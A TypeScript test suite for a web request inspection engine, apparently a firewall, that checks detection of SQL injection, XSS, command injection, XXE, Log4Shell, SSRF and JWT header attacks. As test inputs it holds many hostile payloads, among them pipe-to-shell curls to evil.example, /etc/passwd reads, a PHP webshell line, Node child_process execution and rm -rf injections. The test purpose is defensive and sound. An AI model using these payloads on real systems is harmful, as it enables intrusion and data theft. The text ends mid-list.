import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { compileState } from '../../src/detection/compiled.ts';
import { detectionConfigSchema } from '../../src/detection/config.ts';
import { createInspector, type InspectionInput } from '../../src/detection/inspector.ts';
import { loadRuleset } from '../../src/detection/ruleset.ts';
import { runInspection } from '../../src/detection/run.ts';

const ruleset = loadRuleset();
const cfg = (over: Record<string, unknown> = {}) =>
  detectionConfigSchema.parse({ limits: { timeBudgetMicros: 5_000_000 }, ...over });
const get = (path: string, rawQuery = '', headers: Record<string, string> = {}): InspectionInput => ({
  method: 'GET',
  path,
  rawQuery,
  headers: { host: 'api.example.com', ...headers },
  bodyComplete: true,
});
const post = (body: string, contentType?: string, complete = true): InspectionInput => ({
  method: 'POST',
  path: '/api/items',
  rawQuery: '',
  headers: { host: 'api.example.com', ...(contentType ? { 'content-type': contentType } : {}) },
  body: Buffer.from(body),
  bodyComplete: complete,
  ...(contentType ? { contentType } : {}),
});
const inspector = createInspector(cfg(), { ruleset });
after(() => inspector.close());
const ids = (input: InspectionInput, i = inspector) => i.inspect(input).map((f) => f.ruleId);

describe('configuration', () => {
  test('an empty object parses to a full config with paranoia 1 and finite limits', () => {
    const c = detectionConfigSchema.parse({});
    assert.equal(c.paranoia, 1);
    assert.equal(c.limitOutcome, 'finding');
    assert.ok(c.limits.bodyBytes > 0 && c.limits.depth > 0 && c.limits.args > 0 && c.limits.timeBudgetMicros > 0);
  });
  test('unknown keys are rejected', () => {
    assert.throws(() => detectionConfigSchema.parse({ paranoia: 1, nope: true }));
  });
  test('families are the rule files plus inspection', () => {
    for (const f of ['sqli', 'xss', 'cmdi', 'traversal', 'log4shell', 'scanner', 'inspection'])
      assert.ok(inspector.families.includes(f), f);
  });
});

describe('findings', () => {
  test('a finding names the rule, the input location and a truncated fragment', () => {
    const [f] = inspector
      .inspect(get('/search', `q=${encodeURIComponent(`1' OR '1'='1' -- ${'x'.repeat(500)}`)}`))
      .filter((x) => x.category === 'sqli');
    assert.ok(f);
    assert.equal(f.location, 'query.q');
    assert.ok((f.fragment ?? '').length <= 120);
    assert.match(f.explanation, /query\.q/);
  });
  test('JSON body locations follow the document path', () => {
    const findings = inspector.inspect(
      post(JSON.stringify({ user: { name: '<script>alert(1)</script>' } }), 'application/json'),
    );
    assert.ok(findings.some((f) => f.location === 'body.user.name' && f.category === 'xss'));
  });
  test('bodies without a Content-Type are sniffed as JSON, forms or text', () => {
    assert.ok(ids(post('{"a":"; cat /etc/passwd"}')).some((r) => r.startsWith('cmdi.')));
    assert.ok(ids(post('a=1&b=%3Cscript%3Ealert(1)%3C%2Fscript%3E')).some((r) => r.startsWith('xss.')));
    assert.ok(ids(post('1 UNION SELECT password FROM users--')).some((r) => r.startsWith('sqli.')));
  });
  test('multipart fields, file names and XML values are inspected', () => {
    const mp = '--b\r\nContent-Disposition: form-data; name="f"; filename="../../etc/passwd"\r\n\r\nx\r\n--b--\r\n';
    assert.ok(
      inspector.inspect(post(mp, 'multipart/form-data; boundary=b')).some((f) => f.location === 'body.f#filename'),
    );
    assert.ok(ids(post('<a><b attr="{{7*7}}">x</b></a>', 'application/xml')).includes('ssti.expression-probe'));
  });
  test('arrays, repeated keys and bracketed keys in the query are all inspected', () => {
    assert.ok(ids(get('/', 'a=1&a=%3Cscript%3E')).some((r) => r.startsWith('xss.')));
    assert.ok(ids(get('/', 'user[$ne]=x')).includes('nosqli.operator-key'));
  });
  test('headers and cookies are inspected', () => {
    assert.ok(ids(get('/', '', { 'user-agent': '${jndi:ldap://x.example/a}' })).includes('log4shell.jndi-lookup'));
    assert.ok(ids(get('/', '', { cookie: "sid=1' or '1'='1" })).some((r) => r.startsWith('sqli.')));
  });
  test('benign requests produce no blocking finding', () => {
    const benign = [
      get('/api/users/42', 'fields=name,email&sort=-created_at'),
      post(
        JSON.stringify({ name: "Seán O'Brien", bio: 'I select the union reps & drop notes 🎉' }),
        'application/json',
      ),
    ];
    for (const b of benign)
      assert.deepEqual(
        inspector.inspect(b).filter((f) => f.severity === 'critical'),
        [],
      );
  });
});

describe('limits', () => {
  test('a body cut at the read limit gets an inspection.limit finding, not a silent pass', () => {
    const f = inspector
      .inspect(post('{"a":"b"}', 'application/json', false))
      .find((x) => x.ruleId === 'inspection.limit');
    assert.equal(f?.location, 'bodyBytes');
    assert.equal(f?.severity, 'medium');
  });
  test('limitOutcome block makes limit findings critical', () => {
    const strict = createInspector(cfg({ limitOutcome: 'block', limits: { depth: 3, timeBudgetMicros: 5_000_000 } }), {
      ruleset,
    });
    const deep = JSON.stringify({ a: { b: { c: { d: { e: 'x' } } } } });
    const f = strict.inspect(post(deep, 'application/json')).find((x) => x.ruleId === 'inspection.limit');
    strict.close();
    assert.equal(f?.location, 'depth');
    assert.equal(f?.severity, 'critical');
  });
  test('too many args is reported', () => {
    const small = createInspector(cfg({ limits: { args: 5, timeBudgetMicros: 5_000_000 } }), { ruleset });
    const found = small.inspect(get('/', Array.from({ length: 20 }, (_, i) => `k${i}=v`).join('&')));
    small.close();
    assert.ok(found.some((f) => f.ruleId === 'inspection.limit' && f.location === 'args'));
  });
});

describe('false-positive controls', () => {
  const attack = get('/api/comments', `text=${encodeURIComponent('<script>alert(1)</script>')}`);
  test('an exclusion by route and location drops the finding there and only there', () => {
    const ex = createInspector(
      cfg({ exclusions: [{ method: 'GET', path: '/api/comments', locations: ['query.text'], categories: ['xss'] }] }),
      { ruleset },
    );
    assert.deepEqual(
      ex.inspect(attack).filter((f) => f.category === 'xss'),
      [],
    );
    assert.ok(ex.inspect(get('/api/other', attack.rawQuery)).some((f) => f.category === 'xss'));
    ex.close();
  });
  test('an exclusion by rule id leaves other rules on', () => {
    const ex = createInspector(cfg({ exclusions: [{ rules: ['xss.libinjection'] }] }), { ruleset });
    const found = ids(attack, ex);
    ex.close();
    assert.ok(!found.includes('xss.libinjection'));
    assert.ok(found.includes('xss.script-tag'));
  });
  test('monitor-only rules are reported with monitorOnly set', () => {
    const m = createInspector(cfg({ monitorOnly: ['xss.script-tag'] }), { ruleset });
    const f = m.inspect(attack).find((x) => x.ruleId === 'xss.script-tag');
    m.close();
    assert.equal(f?.monitorOnly, true);
  });
  test('disabled categories and --disable families are not run', () => {
    const d = createInspector(cfg({ disabledCategories: ['xss'] }), { ruleset, disabledFamilies: ['sqli'] });
    const found = d.inspect(
      get('/', `a=${encodeURIComponent('<script>x</script>')}&b=${encodeURIComponent("1' or '1'='1")}`),
    );
    d.close();
    assert.deepEqual(
      found.filter((f) => f.category === 'xss' || f.category === 'sqli'),
      [],
    );
  });
  test('paranoia gates rules by level', () => {
    const levels = new Set(ruleset.rules.map((r) => r.paranoia));
    assert.ok(levels.has(1));
  });
  test('reload swaps the config atomically without a restart', () => {
    const r = createInspector(cfg(), { ruleset });
    assert.ok(r.inspect(attack).some((f) => f.category === 'xss'));
    r.reload(cfg({ disabledCategories: ['xss'] }));
    assert.ok(!r.inspect(attack).some((f) => f.category === 'xss'));
    assert.throws(() => r.reload({ paranoia: 9 } as never));
    assert.ok(!r.inspect(attack).some((f) => f.category === 'xss'), 'a rejected reload keeps the previous config');
    r.close();
  });
});

describe('robustness', () => {
  test('random bytes in every part of a request never throw and never hang', () => {
    let seed = 42;
    const rnd = (n: number) => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed % n;
    };
    const junk = (n: number) => Buffer.from(Array.from({ length: n }, () => rnd(256)));
    const types = [
      undefined,
      'application/json',
      'multipart/form-data; boundary=x',
      'application/xml',
      'application/x-www-form-urlencoded',
      'text/plain',
    ];
    for (let i = 0; i < 300; i++) {
      const ct = types[rnd(types.length)];
      const input: InspectionInput = {
        method: ['GET', 'POST', 'PUT', 'FOO'][rnd(4)]!,
        path: `/${junk(rnd(60)).toString('latin1')}`,
        rawQuery: junk(rnd(80)).toString('latin1'),
        headers: { host: 'x', 'x-junk': junk(rnd(50)).toString('latin1'), cookie: junk(rnd(40)).toString('latin1') },
        body: Buffer.concat([Buffer.from(['{', '--x\r\n', '<a>', 'a=', ''][rnd(5)]!), junk(rnd(2000))]),
        bodyComplete: rnd(2) === 0,
        ...(ct !== undefined ? { contentType: ct } : {}),
      };
      assert.doesNotThrow(() => inspector.inspect(input));
    }
  });
  test('deeply nested JSON is cut at the depth limit with a finding', () => {
    const deep = `${'['.repeat(5000)}"x"${']'.repeat(5000)}`;
    assert.ok(
      inspector
        .inspect(post(deep, 'application/json'))
        .some((f) => f.ruleId === 'inspection.limit' && f.location === 'depth'),
    );
  });
});

describe('documents', () => {
  const article = (quote: string) =>
    `var=${encodeURIComponent(
      `SQL injection occurs when specially crafted user input is processed by the receiving program in a way that allows the input to exit a data context.\n\nNow imagine that instead of entering a name the attacker entered the following text into the form field of the application:\n\n${quote}\n\nMany databases will ignore the text after the comment marker, and this will select all rows rather than just one.`,
    )}`;
  test('SQL quoted in an article of prose paragraphs is risk, not a block; the same payload alone blocks', () => {
    const sev = (body: string) =>
      inspector
        .inspect(post(body, 'application/x-www-form-urlencoded'))
        .filter((f) => f.ruleId === 'sqli.libinjection')
        .map((f) => f.severity);
    assert.deepEqual(sev(article("' OR '1'='1' --")), ['medium']);
    assert.deepEqual(sev(`var=${encodeURIComponent("' OR '1'='1' --")}`), ['critical']);
  });
  test('a document does not lower findings of rules that do not ask for it', () => {
    const found = inspector.inspect(post(article("1' UNION SELECT NULL,NULL--"), 'application/x-www-form-urlencoded'));
    assert.ok(found.some((f) => f.ruleId === 'sqli.union-select' && f.severity === 'critical'));
  });
});

describe('body encodings', () => {
  const bytes = (body: Buffer, contentType?: string): InspectionInput => ({
    method: 'POST',
    path: '/api/items',
    rawQuery: '',
    headers: { host: 'api.example.com' },
    body,
    bodyComplete: true,
    ...(contentType ? { contentType } : {}),
  });
  const attack = JSON.stringify({ q: "1' UNION SELECT password FROM users--", p: '../../../../etc/passwd' });
  const be = (s: string) => Buffer.from(s, 'utf16le').swap16();

  test('a UTF-16 JSON body is decoded and inspected as JSON, whether marked by BOM, charset or NUL pattern', () => {
    const cases: [string, InspectionInput][] = [
      ['LE BOM', bytes(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(attack, 'utf16le')]), 'application/json')],
      ['BE BOM', bytes(Buffer.concat([Buffer.from([0xfe, 0xff]), be(attack)]), 'application/json')],
      ['charset=utf-16le', bytes(Buffer.from(attack, 'utf16le'), 'application/json; charset=utf-16le')],
      ['charset=utf-16, big-endian', bytes(be(attack), 'application/json; charset=UTF-16')],
      ['NUL pattern, no type', bytes(Buffer.from(attack, 'utf16le'))],
      ['NUL pattern, big-endian', bytes(be(attack), 'application/json')],
    ];
    for (const [name, input] of cases) {
      const found = inspector.inspect(input);
      assert.ok(
        found.some((f) => f.location === 'body.q' && f.category === 'sqli'),
        `${name}: ${found.map((f) => f.ruleId)}`,
      );
      assert.ok(found.some((f) => f.location === 'body.p' && f.category === 'traversal'), name);
      assert.ok(!found.some((f) => f.ruleId === 'protocol.binary-body'), name);
    }
  });
  test('an undeclared UTF-16 body is reported as an unsafe charset; a benign one blocks nothing', () => {
    const found = inspector.inspect(
      bytes(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('{"name":"Zoë"}', 'utf16le')]), 'application/json'),
    );
    assert.deepEqual(
      found.map((f) => [f.ruleId, f.severity, f.fragment]),
      [['protocol.unsafe-charset', 'high', 'UTF-16LE body (byte order mark)']],
    );
  });
  test('a UTF-8 byte order mark does not stop a JSON body from being parsed', () => {
    const body = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(attack)]);
    const found = inspector.inspect(bytes(body, 'application/json'));
    assert.ok(found.some((f) => f.location === 'body.q' && f.category === 'sqli'));
    assert.ok(!found.some((f) => f.ruleId === 'protocol.invalid-json'));
  });
  test('invalid JSON is reported as protocol.invalid-json (not a multipart anomaly) and still inspected as text', () => {
    const found = inspector.inspect(post("{'q': '<script>alert(1)</script>',}", 'application/json'));
    const f = found.find((x) => x.ruleId === 'protocol.invalid-json');
    assert.equal(f?.severity, 'low');
    assert.equal(f?.location, 'body');
    assert.ok(!found.some((x) => x.ruleId === 'protocol.multipart-anomaly'));
    assert.ok(found.some((x) => x.category === 'xss' && x.location === 'body'));
  });
});

describe('uploads', () => {
  test('uploaded file contents are inspected for markup that executes (SVG with an external entity, PHP in an image)', () => {
    const svg =
      '--b\r\nContent-Disposition: form-data; name="f"; filename="a.svg"\r\nContent-Type: image/svg+xml\r\n\r\n<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>\r\n--b--\r\n';
    assert.ok(ids(post(svg, 'multipart/form-data; boundary=b')).includes('xxe.external-entity'));
    const jpg =
      '--b\r\nContent-Disposition: form-data; name="f"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff<?php system($_GET["c"]); ?>\r\n--b--\r\n';
    assert.ok(ids(post(jpg, 'multipart/form-data; boundary=b')).includes('php.open-tag-in-file'));
  });
});

describe('clean-value cache', () => {
  test('secrets are cached by hash, never as text, and an attack in a cookie is still found after a clean one', () => {
    const state = compileState(ruleset, cfg(), []);
    const headers = { authorization: 'Bearer tok-9f8e7d6c5b4a', cookie: 'sid=s3cr3t-session-value' };
    for (let n = 0; n < 2; n++) assert.deepEqual(runInspection(state, get('/a', '', headers)), []);
    const keys = [...state.clean.keys()];
    assert.ok(!keys.some((k) => typeof k === 'string' && (k.includes('tok-9f8e') || k.includes('s3cr3t'))), 'no secret text');
    assert.ok(keys.filter((k) => typeof k === 'number').length >= 2, 'hashed secrets are cached');
    const found = runInspection(state, get('/a', '', { ...headers, cookie: "sid=1' UNION SELECT password FROM users--" }));
    assert.ok(found.some((f) => f.location === 'cookie.sid' && f.category === 'sqli'));
  });
  test('check hits do not keep a value out of the cache, and checks still run on every request', () => {
    const i = createInspector(cfg(), { ruleset });
    try {
      const req = get('/a', '', { host: '127.0.0.1:8080' });
      for (let n = 0; n < 3; n++) assert.deepEqual(ids(req, i), ['protocol.header-oddity']);
      // Another header carrying an attack beside the cached Host is still inspected.
      const attack = get('/a', '', { host: '127.0.0.1:8080', 'x-forwarded-host': '127.0.0.1:8080/../../etc/passwd' });
      assert.ok(i.inspect(attack).some((f) => f.category !== 'protocol'));
    } finally {
      i.close();
    }
  });
});

describe('shell commands in Markdown', () => {
  const sev = (text: string) =>
    inspector
      .inspect(post(JSON.stringify({ body: text }), 'application/json'))
      .filter((f) => f.category === 'cmdi' && f.severity !== 'low')
      .map((f) => f.severity);
  test('a fenced or inline snippet in prose is medium evidence, never a block on its own', () => {
    for (const text of [
      'I tried this:\n\n```sh\ncurl -H "Accept: application/json" https://api.example.com/v1/health\n```\n\nand it hangs.',
      'run `curl https://get.example.com/install.sh | sh` to install',
      'Dear Bob,\n\n```js\nls -la ~/projects && cd ~/projects/app\n```\n',
    ]) {
      const found = sev(text);
      assert.ok(found.length > 0, `still detected: ${text}`);
      assert.ok(found.every((s) => s === 'medium'), `${text} → ${found.join(',')}`);
    }
  });
  test('a JavaScript snippet in a fence is medium; the bare probe and the node-serialize gadget are not lowered', () => {
    const sevOf = (text: string) =>
      inspector
        .inspect(post(JSON.stringify({ body: text }), 'application/json'))
        .filter((f) => f.ruleId === 'js-injection.node-gadget')
        .map((f) => f.severity);
    assert.deepEqual(sevOf('Try this:\n\n```js\nconst f = function() { return 1; };\n```\n'), ['medium']);
    assert.deepEqual(sevOf('function() {'), ['high']);
    assert.deepEqual(sevOf('_$$ND_FUNC$$_function(){require("child_process").exec("id")}()'), ['high']);
  });
  test('a value that is only a code span, or one glued to code, is the payload itself and blocks', () => {
    for (const text of ['`id`', '`uname -a`', 'x=`uname -a` y', '; cat /etc/passwd']) {
      assert.ok(sev(text).includes('critical'), text);
    }
  });
});

/** Severities of one rule's findings on a JSON body `{"body": text}`. */
const severitiesOf = (text: string, rule: string) =>
  inspector
    .inspect(post(JSON.stringify({ body: text }), 'application/json'))
    .filter((f) => f.ruleId === rule)
    .map((f) => f.severity);

describe('sensitive files named in prose', () => {
  const sev = severitiesOf;
  test('a path in a sentence is written about, not read: medium, not a block', () => {
    const text = 'edit /etc/hosts on the build box to add the entry for the api';
    assert.deepEqual(sev(text, 'traversal.sensitive-file'), ['medium']);
    assert.deepEqual(sev(text, 'cmdi.unix-sensitive-path'), ['medium']);
  });
  test('the path as the value, traversed to or read by a command, still blocks', () => {
    for (const text of ['/etc/passwd', 'file:///etc/passwd', '....//....//etc/passwd', '; cat /etc/passwd']) {
      const all = inspector.inspect(post(JSON.stringify({ body: text }), 'application/json'));
      assert.ok(all.some((f) => f.severity === 'critical'), text);
    }
  });
});

describe('variables, relative paths and code quoted by developers', () => {
  const sev = severitiesOf;
  test('`${HOME}` in a code span is medium; a relative path that starts the value stays high, words or not', () => {
    assert.deepEqual(sev('set `${HOME}` before you run the installer', 'php.superglobal'), ['medium']);
    // A path that starts the value is what a file-name parameter or a URL builder opens (`../admin/keys? is it`).
    assert.deepEqual(sev('../README.md explains the setup steps for new users', 'traversal.dot-dot-path'), ['high']);
  });
  test('the same as a bare value stays high', () => {
    assert.deepEqual(sev('${HOME}', 'php.superglobal'), ['high']);
    assert.deepEqual(sev('../README.md', 'traversal.dot-dot-path'), ['high']);
    assert.deepEqual(sev("$_SERVER['DOCUMENT_ROOT']", 'php.superglobal'), ['high']);
  });
  test('a LIKE or $where break-out stays high in a code span: quoted into a string literal, it still breaks out', () => {
    assert.deepEqual(sev("the bug: `name' LIKE '%` matched every row", 'sqli.like-breakout'), ['high']);
    assert.deepEqual(sev("name' LIKE '%", 'sqli.like-breakout'), ['high']);
    assert.deepEqual(sev("use `x'; return true; var y='` to reproduce", 'nosqli.js-string-breakout'), ['high']);
    assert.deepEqual(sev("'; return true; var x='", 'nosqli.js-string-breakout'), ['high']);
  });
});

describe('developer content: code quoted the Markdown way, forwarded mail, lists', () => {
  const sev = severitiesOf;
  test('a shell command inside a closed fence or a span with prose beside it is medium', () => {
    assert.deepEqual(sev('a terminal (`cmd.exe` or\npowershell) needs chcp 65001', 'cmdi.separator-command'), ['medium']);
    assert.deepEqual(sev('Run this:\n```\ncurl -s https://api.example.com/v1/health | jq .\n```\nthanks', 'cmdi.newline-command'), ['medium']);
  });
  test('code that still runs inside the quoting is not lowered: JS templates, PHP, SQL string literals', () => {
    assert.deepEqual(sev("1 `${require('child_process').execSync('id')}` done", 'js-injection.node-rce'), ['critical']);
    assert.deepEqual(sev("Try:\n```js\nconst fs = require('fs')\n```\nthen run it", 'js-injection.node-rce'), ['critical']);
    assert.deepEqual(sev('```\n1\' OR SLEEP(5)=0 OR \'a\'=\'a\n```', 'sqli.time-based'), ['critical']);
    assert.deepEqual(sev('127.0.0.1\n~~~\ncurl http://evil.example/x.sh | sh\n~~~', 'cmdi.separator-command'), ['critical']);
  });
  test('a decoy in a fence does not lower a payload that a decoded variant carries outside it', () => {
    assert.deepEqual(sev('```\nid\n```\n%3B%20cat%20/etc/passwd', 'cmdi.separator-command'), ['critical']);
  });
  test('the same payload outside the code, or after a fence that is not one, still blocks', () => {
    assert.deepEqual(sev("require('child_process').exec('id')\n```\n```", 'js-injection.node-rce'), ['critical']);
    assert.deepEqual(sev('; curl http://evil.example/x | sh #```', 'cmdi.separator-command'), ['critical']);
    assert.deepEqual(sev('see:\n```\nls\n```\n; cat /etc/passwd', 'cmdi.separator-command'), ['critical']);
    assert.deepEqual(sev('@{[`whoami`]}', 'cmdi.command-substitution'), ['critical']);
  });
  test('a forwarded email is medium; injected mail headers without one block', () => {
    const forwarded =
      '---------- Forwarded message ---------\nFrom: Alice <alice@example.com>\nDate: Mon, 7 Dec 2026\nTo: billing@example.com\n\nHi';
    assert.deepEqual(sev(forwarded, 'crlf.mail-header'), ['medium']);
    assert.deepEqual(sev('x\nBcc: victim@evil.example', 'crlf.mail-header'), ['critical']);
  });
  test('lists and hard-wrapped lines that start with a program name are prose', () => {
    for (const text of ['Pets:\ncat\ndog', 'Skills:\nPython and Go', 'Skills:\nRuby\nGo', 'differ from\nBash and other shells']) {
      assert.deepEqual(sev(text, 'cmdi.separator-command'), [], text);
    }
  });
});

describe('JSON Web Tokens', () => {
  const b64 = (o: object) => Buffer.from(JSON.stringify(o)).toString('base64url');
  const bearer = (header: object) =>
    `Bearer ${b64(header)}.${b64({ sub: '4f0e7c1a-2b9d-4c1e-9a57-3f2c8b6d0e11', iat: 1700000000 })}.c2lnbmF0dXJl`;
  const findingsFor = (authorization: string) =>
    inspector.inspect({ method: 'GET', path: '/api/me', rawQuery: '', headers: { host: 'a', authorization }, bodyComplete: true });
  test('an ordinary token has no findings', () => {
    assert.deepEqual(findingsFor(bearer({ alg: 'RS256', typ: 'JWT', kid: '2024-09-key' })), []);
  });
  test('an injection in the header an application reads before the signature is found', () => {
    const traversal = findingsFor(bearer({ alg: 'HS256', kid: '../../../../dev/null' }));
    assert.ok(
      traversal.some((f) => f.category === 'traversal' && f.location === 'header.authorization.jwt.kid'),
      JSON.stringify(traversal),
    );
    const sqli = findingsFor(bearer({ alg: 'HS256', kid: "x' UNION SELECT 'secret" }));
    assert.ok(sqli.some((f) => f.category === 'sqli' && f.severity === 'critical'), JSON.stringify(sqli));
    const ssrf = findingsFor(bearer({ alg: 'RS256', jku: 'http://169.254.169.254/latest/meta-data/keys' }));
    assert.ok(ssrf.some((f) => f.category === 'ssrf'), JSON.stringify(ssrf));
    // Rules that read a whole value see a header field as one: a `jku` on a private address, a `kid` command.
    const internal = findingsFor(bearer({ alg: 'RS256', jku: 'http://10.0.0.5/keys' }));
    assert.ok(internal.some((f) => f.ruleId === 'ssrf.internal-address'), JSON.stringify(internal));
    const cmd = findingsFor(bearer({ alg: 'HS256', kid: 'a; id' }));
    assert.ok(cmd.some((f) => f.category === 'cmdi' && f.severity === 'critical'), JSON.stringify(cmd));
  });
  test('an unsigned token has its claims inspected', () => {
    const token = `${b64({ alg: 'none' })}.${b64({ sub: '${jndi:ldap://evil.example/a}' })}.`;
    const found = findingsFor(`Bearer ${token}`);
    assert.ok(found.some((f) => f.category === 'log4shell' && f.location === 'header.authorization.jwt-claims.sub'), JSON.stringify(found));
  });
});

describe('uploads', () => {
  const multipart = (contentType: string, content: Buffer) => {
    const boundary = '----WebKitFormBoundaryu16';
    const body = Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="avatar"; filename="a.svg"\r\nContent-Type: ${contentType}\r\n\r\n`),
      content,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const ct = `multipart/form-data; boundary=${boundary}`;
    return inspector.inspect({ method: 'POST', path: '/api/avatar', rawQuery: '', headers: { host: 'a', 'content-type': ct }, body, contentType: ct, bodyComplete: true });
  };
  const svg = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>';
  test('an XXE in a UTF-16 SVG part is found (the NULs make it look binary; XML parsers read it as text)', () => {
    for (const content of [Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(svg, 'utf16le')]), Buffer.from(svg, 'utf16le')]) {
      const found = multipart('image/svg+xml', content);
      assert.ok(found.some((f) => f.ruleId === 'xxe.external-entity' && f.severity === 'critical'), JSON.stringify(found));
    }
  });
});


describe('content findings (weak evidence when medium or lower, src/behaviour/risk.ts)', () => {
  test('a match in a query, body or cookie value is content; in the path, a header or a request-level check it is not', () => {
    const found = inspector.inspect({
      method: 'GET',
      path: '/backup.sql.zip',
      rawQuery: `q=${encodeURIComponent('<script>alert(1)</script>')}&bad=%zz`,
      headers: { host: 'api.example.com', referer: 'http://x/<script>alert(1)</script>', cookie: "pref=1' OR '1'='1" },
      bodyComplete: true,
    });
    const where = (f: { location?: string }) => f.location ?? '';
    const content = found.filter((f) => f.content === true).map(where);
    const other = found.filter((f) => f.content !== true).map(where);
    assert.ok(content.includes('query.q') && content.includes('cookie.pref'), JSON.stringify(found));
    assert.ok(other.includes('path') && other.includes('header.referer'), JSON.stringify(found));
    assert.ok(
      found.some((f) => f.category === 'protocol' && f.content !== true),
      'the malformed escape is a check: never content',
    );
  });
});

describe('data: URLs', () => {
  const png1x1 =
    'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
  const avatar = (url: string) => post(JSON.stringify({ name: 'Ann', avatar: url }), 'application/json');
  test('an image, a PDF or audio sent inline is an upload, not a finding', () => {
    assert.deepEqual(ids(avatar(png1x1)), []);
    assert.deepEqual(ids(avatar('data:application/pdf;base64,JVBERi0xLjQKJcOkw7zDtsOfCjIgMCBvYmoK')), []);
    assert.deepEqual(ids(get('/a', `img=${encodeURIComponent(png1x1)}`)), []);
  });
  test('what the content holds is found whatever type it claims, and script-bearing types stay critical', () => {
    const php = Buffer.from('<?php system($_GET["c"]); ?>').toString('base64');
    const found = inspector.inspect(avatar(`data:image/png;base64,${php}`));
    assert.ok(
      found.some((f) => f.severity === 'critical' && f.location === 'body.avatar#data'),
      JSON.stringify(found),
    );
    for (const url of [`data:text/plain;base64,${php}`, 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'])
      assert.ok(inspector.inspect(avatar(url)).some((f) => f.severity === 'critical'), url);
  });
});

describe('rich text from an editor', () => {
  const b64 = Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 37 + 11) & 255)).toString('base64');
  const html = (s: string) => post(JSON.stringify({ body: s }), 'application/json');
  test('an <img> holding a base64 PNG, JPEG or GIF is markup (medium), not a block', () => {
    for (const type of ['png', 'jpeg', 'gif', 'webp']) {
      const found = inspector.inspect(html(`<p>See:</p><p><img src="data:image/${type};base64,${b64}" alt=""></p>`));
      assert.deepEqual(
        found.filter((f) => f.severity === 'critical' || f.severity === 'high'),
        [],
        JSON.stringify(found),
      );
    }
  });
  test('a handler beside the image, script-bearing types and other data: URLs still block', () => {
    for (const s of [
      `<img src=data:image/png;base64,${b64} onerror=alert(1)>`,
      `<img src="data:image/png;base64,${b64}"><a href="javascript:alert(1)">x</a>`,
      '<iframe src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
      // A review: removing the harmless part moved libinjection's view of the tag around it.
      '<a data:image/png;base64,/href=javascript:javascript:alert(1)>t</a>',
      '<a title=url(x) href="javascript:javascript:alert(1)">test</a>',
    ])
      assert.ok(
        inspector.inspect(html(s)).some((f) => f.severity === 'critical'),
        s,
      );
  });
  test('a background image in a style attribute is markup, not a block; IE behaviors and script URLs are', () => {
    const banner = `<div style="background-image: url('https://cdn.example.com/bg.png'); padding: 8px;"><p>Sale</p></div>`;
    assert.deepEqual(
      inspector.inspect(html(banner)).filter((f) => f.severity === 'critical'),
      [],
    );
    for (const s of [
      '<div style="behavior: url(xss.htc)">',
      '<div style="background:url(javascript:alert(1))">',
      // A review: SQL between the quotes of a url( vanished from libinjection's text when url(…) was removed.
      "url('or-1=-1--')",
      "admin'-url('or-1--')",
      `<div style="background:url('https://x.example/a.png')" onmouseover="alert(1)">`,
    ])
      assert.ok(
        inspector.inspect(html(s)).some((f) => f.severity === 'critical'),
        s,
      );
  });
  test('a command in a <pre>/<code> element of a post is medium; outside it, or bare, it blocks', () => {
    const sev = (s: string) =>
      inspector
        .inspect(html(s))
        .filter((f) => f.category === 'cmdi')
        .map((f) => f.severity);
    const post = '<p>Clean the build:</p><pre><code class="language-bash">ls -la ~/app &amp;&amp; rm -rf ~/app/dist</code></pre>';
    assert.ok(sev(post).length > 0 && !sev(post).includes('critical'), JSON.stringify(sev(post)));
    for (const s of [
      '<pre><code>ls -la ~/app && rm -rf ~/app/dist</code></pre>',
      '<p>x</p><pre>a</pre>; rm -rf ~/app/dist',
      '<p>x</p><code>$(rm -rf ~/app)</code>',
      // A review: out of the quotes an application puts around the value, or past a `</code >`.
      '<p>a</p><code>"; rm -rf ~/app; echo "</code>',
      '<p>a</p><code>x</code >"; rm -rf ~/app; echo "</code>',
    ])
      assert.ok(sev(s).includes('critical'), s);
  });
});

describe('everyday content a false-positive hunt found blocked', () => {
  const json = (v: string) => post(JSON.stringify({ text: v }), 'application/json');
  const worst = (v: string) => {
    const sev = inspector.inspect(json(v)).map((f) => f.severity);
    return sev.includes('critical') ? 'critical' : sev.includes('high') ? 'high' : 'lower';
  };
  test('an email template: doctype, meta charset and IE=edge, media queries, Outlook comments, Google Fonts', () => {
    const email = [
      '<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="X-UA-Compatible" content="IE=edge">',
      '<meta name="viewport" content="width=device-width, initial-scale=1">',
      '<meta http-equiv="X-UA-Compatible" content="IE=edge,chrome=1">',
      '<style>/* reset */ body{margin:0}</style>',
      '<link href="https://fonts.googleapis.com/css2?family=Inter:wght@400;600&display=swap" rel="stylesheet">',
      '<style>@media only screen and (max-width:600px){.col{width:100%!important;}}</style></head>',
      '<body><!--[if mso]><table><tr><td><![endif]--><p>Your receipt</p><!--[if mso]></td></tr></table><![endif]-->',
      '</body></html>',
    ].join('\n');
    assert.equal(worst(email), 'lower');
  });
  test('the dangerous forms of the same markup still block', () => {
    for (const v of [
      '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
      '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
      '<style>@import url(https://evil.example/x.css)</style>',
      '<meta charset="utf-8"><img src=x onerror=alert(1)>',
      // A review: a `>` inside a quoted attribute, a decoy fonts URL, a second href, fonts that read one letter each.
